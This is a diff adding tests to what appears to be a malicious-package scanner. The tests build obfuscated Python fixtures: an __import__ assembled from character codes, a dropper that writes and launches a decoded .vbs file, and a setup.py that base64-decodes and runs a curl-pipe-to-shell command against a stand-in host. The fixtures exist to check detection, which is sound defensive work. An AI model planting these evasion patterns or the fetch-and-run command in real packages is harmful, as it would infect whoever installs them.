@@ -205,3 +205,41 @@ describe('a padded payload through dist/cli.js', () => {
     expect(padded).toMatchObject({ scoredAlone: 'p-1.0/p/core.py' });
   });
 });
+
+describe('payloads rewritten to hide from the rules, through dist/cli.js', () => {
+  const codes = (s: string) => `[chr(c) for c in [${[...s].map((c) => c.charCodeAt(0)).join(', ')}]]`;
+  const curl = Buffer.from('curl -s http://198.51.100.23/x.sh | sh').toString('base64');
+  it.each([
+    [
+      'builtins fetched by character codes through an aliased join',
+      'p/__init__.py',
+      `_ = "".join\n__ = globals()[_(${codes('__builtins__')})].get(_(${codes('__import__')}))\nm = __(data[3:9])\n`,
+      'dynamic-import',
+      3,
+    ],
+    [
+      'a file written from decoded bytes and started by the name it was written to',
+      'p/__init__.py',
+      `import os, base64\ndef w():\n    p = "C:\\\\Users\\\\Public\\\\p." + "v" + "bs"\n    with open(p, "wb") as fp:\n        fp.write(base64.b64decode(BLOB))\n    os.system(p)\nw()\n`,
+      'binary-dropper',
+      6,
+    ],
+    [
+      "a command decoded by the file's own wrapper",
+      'setup.py',
+      `import base64, os\ndef d(s):\n    return base64.b64decode(s).decode()\nos.system(d("${curl}"))\n`,
+      'dangerous-command',
+      4,
+    ],
+  ])('%s fails at its file:line', (_, path, source, rule, line) => {
+    const result = inspect(
+      `hidden-${rule}-1.0.tar.gz`,
+      makeTarGz([
+        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
+        { path: `p-1.0/${path}`, data: source },
+      ]),
+    );
+    expect(result).toMatchObject({ status: 'ok', verdict: 'malicious' });
+    expect(result.evidence).toContainEqual(expect.objectContaining({ rule, path: `p-1.0/${path}`, line }));
+  });
+});
